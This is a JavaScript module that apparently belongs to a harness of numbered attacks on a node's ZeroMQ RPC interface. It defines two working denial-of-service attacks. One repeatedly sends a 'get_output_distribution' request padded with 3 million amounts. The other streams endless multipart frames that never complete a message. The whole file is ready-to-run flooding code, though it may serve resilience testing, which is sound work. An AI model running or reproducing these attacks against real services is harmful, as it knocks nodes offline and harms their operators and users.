// Rows 6 and 12: requests of the ZeroMQ RPC.
import { count, crowd } from '../crowd.mjs';
import { ZmqConnection, zmtpFrame } from '../zmtp.mjs';

/** @import { Attack } from '../attack.d.ts' */

const AMOUNTS = 3_000_000;
const FRAMES_PER_WRITE = 5000;

function distributionRequest() {
  const params = `{"amounts":[${'0,'.repeat(AMOUNTS - 1)}0],"cumulative":false,"from_height":0,"to_height":0}`;
  return `{"jsonrpc":"2.0","id":0,"method":"get_output_distribution","params":${params}}`;
}

/** @type {readonly Attack[]} */
export const attacks = [
  {
    id: '6',
    kind: 'zmq',
    what: 'ZeroMQ: output distribution of 3 million amounts',
    run({ ports }, counts) {
      const request = distributionRequest();
      return crowd(1, counts, async (address) => {
        const connection = await ZmqConnection.open(ports.zmq, address);
        for (;;) {
          await connection.ask(request);
          count(counts, 'answers');
        }
      });
    },
  },
  {
    id: '12',
    kind: 'zmq',
    what: 'ZeroMQ: a message of endless frames',
    run({ ports }, counts) {
      const one = zmtpFrame(Buffer.alloc(200), { more: true });
      const frames = Buffer.concat(Array.from({ length: FRAMES_PER_WRITE }, () => one));
      return crowd(1, counts, async (address) => {
        const connection = await ZmqConnection.open(ports.zmq, address);
        while (!connection.socket.destroyed) {
          await connection.send(frames);
          count(counts, 'frames', FRAMES_PER_WRITE);
        }
      });
    },
  },
];
